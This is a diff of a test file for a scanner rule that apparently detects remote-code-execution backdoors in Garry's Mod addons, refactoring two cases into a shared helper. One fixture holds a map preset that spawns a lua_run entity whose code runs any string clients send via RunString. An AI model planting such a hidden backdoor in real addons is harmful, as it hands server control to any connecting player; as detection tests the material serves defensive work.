@@ -3,56 +3,50 @@ import { describe, expect, it } from 'vitest';
 import { rule } from './netmessage_rce.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
+/**
+ * An addon that spawns the entities of a preset it ships for each map, read for the current
+ * map from data_static/, each with its keyvalues.
+ */
+function mapPreset(props: object[]): Record<string, string> {
+  return {
+    'lua/autorun/server/sv_presets.lua': [
+      'local function SpawnRow(row)',
+      '  local ent = ents.Create(row.class)',
+      '  if not IsValid(ent) then return end',
+      '  for k, v in pairs(row.kv or {}) do ent:SetKeyValue(k, tostring(v)) end',
+      '  ent:Spawn()',
+      'end',
+      'hook.Add("InitPostEntity", "presets", function()',
+      '  local preset = util.JSONToTable(file.Read("presets/defaults/" .. game.GetMap() .. ".json", "DATA") or "")',
+      '  if preset then for _, row in ipairs(preset.props or {}) do SpawnRow(row) end end',
+      'end)',
+    ].join('\n'),
+    'data_static/presets/defaults/gm_construct.json': JSON.stringify({ props }),
+  };
+}
+
 describe('netmessage_rce', () => {
   it('a map preset shipped in data_static/, read for the current map, spawning a lua_run whose code runs what clients send', () => {
-    const findings = check(rule, {
-      'lua/autorun/server/sv_presets.lua': [
-        'local function SpawnRow(row)',
-        '  local ent = ents.Create(row.class)',
-        '  if not IsValid(ent) then return end',
-        '  for k, v in pairs(row.kv or {}) do ent:SetKeyValue(k, tostring(v)) end',
-        '  ent:Spawn()',
-        'end',
-        'hook.Add("InitPostEntity", "presets", function()',
-        '  local preset = util.JSONToTable(file.Read("presets/defaults/" .. game.GetMap() .. ".json", "DATA") or "")',
-        '  if preset then for _, row in ipairs(preset.props or {}) do SpawnRow(row) end end',
-        'end)',
-      ].join('\n'),
-      'data_static/presets/defaults/gm_construct.json': JSON.stringify({
-        props: [
-          { class: 'prop_physics', kv: { targetname: 'crate' } },
-          {
-            class: 'lua_run',
-            kv: {
-              Code: "net.Receive('lamp', function(l, p) RunString(net.ReadString(), 'x') end)",
-            },
-          },
-        ],
-      }),
-    });
+    const findings = check(
+      rule,
+      mapPreset([
+        { class: 'prop_physics', kv: { targetname: 'crate' } },
+        {
+          class: 'lua_run',
+          kv: { Code: "net.Receive('lamp', function(l, p) RunString(net.ReadString(), 'x') end)" },
+        },
+      ]),
+    );
     expect(worst(findings)).toBe(RANK.critical);
   });
   it('a map preset shipped in data_static/ spawning props only (benign)', () => {
-    const findings = check(rule, {
-      'lua/autorun/server/sv_presets.lua': [
-        'local function SpawnRow(row)',
-        '  local ent = ents.Create(row.class)',
-        '  if not IsValid(ent) then return end',
-        '  for k, v in pairs(row.kv or {}) do ent:SetKeyValue(k, tostring(v)) end',
-        '  ent:Spawn()',
-        'end',
-        'hook.Add("InitPostEntity", "presets", function()',
-        '  local preset = util.JSONToTable(file.Read("presets/defaults/" .. game.GetMap() .. ".json", "DATA") or "")',
-        '  if preset then for _, row in ipairs(preset.props or {}) do SpawnRow(row) end end',
-        'end)',
-      ].join('\n'),
-      'data_static/presets/defaults/gm_construct.json': JSON.stringify({
-        props: [
-          { class: 'prop_physics', kv: { targetname: 'crate' } },
-          { class: 'prop_dynamic', kv: { targetname: 'lamp', skin: '1' } },
-        ],
-      }),
-    });
+    const findings = check(
+      rule,
+      mapPreset([
+        { class: 'prop_physics', kv: { targetname: 'crate' } },
+        { class: 'prop_dynamic', kv: { targetname: 'lamp', skin: '1' } },
+      ]),
+    );
     expect(findings).toEqual([]);
   });
   it("an STool compiling its client setting (the player's own console variable) on the server", () => {
